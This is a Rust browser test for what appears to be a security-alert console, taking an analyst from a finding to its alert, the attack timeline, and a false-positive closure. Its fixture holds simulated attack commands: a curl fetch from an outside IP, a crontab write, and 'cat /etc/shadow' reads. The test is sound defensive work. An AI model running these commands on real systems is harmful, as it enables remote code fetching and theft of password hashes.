//! The analyst's way in a real browser: from the finding to its alert, to the timeline, and to closing it as a false
//! positive with an exclusion proposed.

use crate::browser::{Browser, is_here, serve, shoot};
use crate::support::Console;
use control::fixture::{Program, alert_on, process_fields};
use fantoccini::Locator;
use fantoccini::key::Key;
use model::{Alert, Clock as _, Event, EventKind, Level};

/// A step of the attack: seconds ago, process, program, arguments, rule, tactic, level.
type Step = (i64, i64, &'static str, &'static [&'static str], &'static str, &'static str, Level);

const ATTACK: [Step; 4] = [
    (
        240,
        5001,
        "/usr/bin/curl",
        &["curl", "-s", "http://203.0.113.7/x"],
        "Script Fetched By Curl",
        "execution",
        Level::High,
    ),
    (
        200,
        5002,
        "/usr/bin/crontab",
        &["crontab", "-"],
        "Crontab Written By A Service",
        "persistence",
        Level::Medium,
    ),
    (
        160,
        5003,
        "/usr/bin/cat",
        &["cat", "/etc/shadow"],
        "Passwords Read",
        "credential-access",
        Level::Critical,
    ),
    (
        100,
        5004,
        "/usr/bin/cat",
        &["cat", "/etc/shadow-"],
        "Passwords Read",
        "credential-access",
        Level::Critical,
    ),
];

async fn attack(console: &mut Console) {
    let (mut events, mut alerts): (Vec<Event>, Vec<Alert>) = (Vec::new(), Vec::new());
    for (ago, pid, image, arguments, title, tactic, level) in ATTACK {
        let at = console.scene.clock.now().plus_nanos(-ago * 1_000_000_000);
        let device = console.scene.web.enrolled.device;
        let program = Program { pid, parent: 4001, image, arguments };
        let mut fields = process_fields(device, &program);
        fields.set("User", "sato");
        let event = console.scene.web.event(EventKind::ProcessStart, at, fields);
        let mut alert = alert_on(&event, &title.replace(' ', "-").to_lowercase(), title, level);
        alert.rule_text = alert.rule_text.replace("/curl", image)
            + &format!(
                "tags:\n    - attack.{tactic}\n---\ntitle: Backup of the night\nlogsource:\n  product: linux\nfilter:\n  rules: any\n  selection:\n    User: backup\n  condition: not selection\n"
            );
        alert.why[0].pattern = image.to_owned();
        events.push(event);
        alerts.push(alert);
    }
    console.scene.control.alerts_coming(&alerts).await.unwrap();
    console.scene.commit(events, alerts.clone()).await.unwrap();
    console.scene.control.take_alerts(&alerts).await.unwrap();
}

/// No page is wider than a phone, and where the header has no room for its field, `/` leads to the search.
async fn fits_a_phone(browser: &Browser, urls: &[String]) {
    let size =
        serde_json::json!({ "width": 390, "height": 844, "deviceScaleFactor": 1, "mobile": false });
    browser.devtools("Emulation.setDeviceMetricsOverride", size).await;
    for url in urls {
        browser.client.goto(url).await.unwrap();
        browser.wait("main h1").await;
        let script = "return document.documentElement.scrollWidth";
        let width = browser.client.execute(script, Vec::new()).await.unwrap();
        assert_eq!(width.as_u64(), Some(390), "{url} scrolls sideways");
    }
    browser.press("/").await;
    browser.wait("form.query").await;
    let size = serde_json::json!({ "width": 1280, "height": 800, "deviceScaleFactor": 1, "mobile": false });
    browser.devtools("Emulation.setDeviceMetricsOverride", size).await;
}

async fn click(browser: &Browser, selector: &str) {
    browser.wait(selector).await;
    browser.client.find(Locator::Css(selector)).await.unwrap().click().await.unwrap();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_browser_goes_from_a_finding_to_its_alert_timeline_and_end() {
    if !is_here() {
        return;
    }
    let mut console = Console::open().await;
    attack(&mut console).await;
    let address = serve(&console).await;
    let browser = Browser::start().await;
    let token = console.scene.control.issue_sign_in_token("administrator").await.unwrap();
    let to = |path: &str| format!("http://{address}{path}");
    browser.client.goto(&to(&format!("/signin?token={token}"))).await.unwrap();
    let enter = Key::Enter.to_string();
    browser.press(&enter).await;
    browser.wait("#strip").await;
    browser.choose("language", "en").await;

    // The most severe finding stands first and folds both alerts of its rule.
    browser.press("g").await;
    browser.press("a").await;
    browser.wait("#detections tbody tr").await;
    let first = browser.text("#detections tbody tr").await;
    assert!(first.contains("Passwords Read") && first.contains("Credential access"), "{first}");
    assert_eq!(browser.text("#detections tbody td.num").await, "2");
    browser.press("j").await;
    browser.press(&enter).await;
    browser.wait("#newest").await;
    let finding = browser.client.current_url().await.unwrap();

    // Its alert, in sentences and with the verdict of every part.
    browser.press("j").await;
    browser.press(&enter).await;
    browser.wait("#sentences").await;
    assert_eq!(browser.text("#sentences li").await, "Image ends with “/usr/bin/cat”");
    let verdicts = browser.text("#verdicts").await;
    for words in ["Agrees with the alert", "Backup of the night", "lets it pass"] {
        assert!(verdicts.contains(words), "{words}: {verdicts}");
    }
    let alert = browser.client.current_url().await.unwrap();

    // The attack around it, in stages.
    click(&browser, "#to-timeline").await;
    browser.wait(".story").await;
    let stages = browser.texts(".chapter h2").await;
    assert_eq!(stages, ["1. Execution", "2. Persistence", "3. Credential access"]);
    let timeline = browser.client.current_url().await.unwrap();

    browser.client.goto(alert.as_str()).await.unwrap();
    click(&browser, "#to-finding").await;
    browser.wait("#close").await;
    click(&browser, "#steps form[action$='/take'] button").await;
    browser.wait(".state-in-progress").await;
    click(&browser, "#close input[value=false_positive]").await;
    let reason = browser.client.find(Locator::Css("#reason")).await.unwrap();
    reason.send_keys("the nightly backup reads it").await.unwrap();
    click(&browser, "#close button").await;
    browser.wait("#exclude").await;
    assert!(browser.text("main").await.contains("Closed as False positive — the nightly backup"));
    let proposed = browser.attribute("#exclude a", "href").await;
    assert!(proposed.starts_with("/rules/exclusions/new?rule=passwords-read&alert="), "{proposed}");
    assert!(proposed.contains("&field=Image&value=/usr/bin/cat"), "{proposed}");

    // Closed by mistake: one step back.
    click(&browser, "#steps form[action$='/undo'] button").await;
    browser.wait("#close").await;

    let screens = [
        ("detections", to("/alerts")),
        ("detection", finding.to_string()),
        ("alert-verdicts", alert.to_string()),
        ("timeline", timeline.to_string()),
        ("risk", to("/risk")),
        ("today-detections", to("/")),
        ("device-risk", to(&format!("/devices/{}", console.scene.web.enrolled.device))),
    ];
    for language in ["ja", "en"] {
        browser.choose("language", language).await;
        for scheme in ["light", "dark"] {
            browser.emulate(scheme).await;
            for (name, url) in &screens {
                browser.client.goto(url).await.unwrap();
                browser.wait("main h1").await;
                assert!(!browser.text("body").await.contains('⟦'), "{name} in {language}");
                shoot(&browser.client, &format!("{name}-{language}-{scheme}")).await;
            }
        }
    }
    let paths = screens.map(|(_, url)| url);
    fits_a_phone(&browser, &paths).await;
    // The rule of the finding has a page, or is said to be in force no more; the link is no dead end.
    browser.client.goto(finding.as_str()).await.unwrap();
    let rule = browser.attribute("a[href^='/rules/']", "href").await;
    assert_eq!(rule, "/rules/in-force/passwords-read");
    let complaints = browser.complaints().await;
    assert!(complaints.is_empty(), "the browser complains: {complaints:#?}");
    browser.stop().await;
}
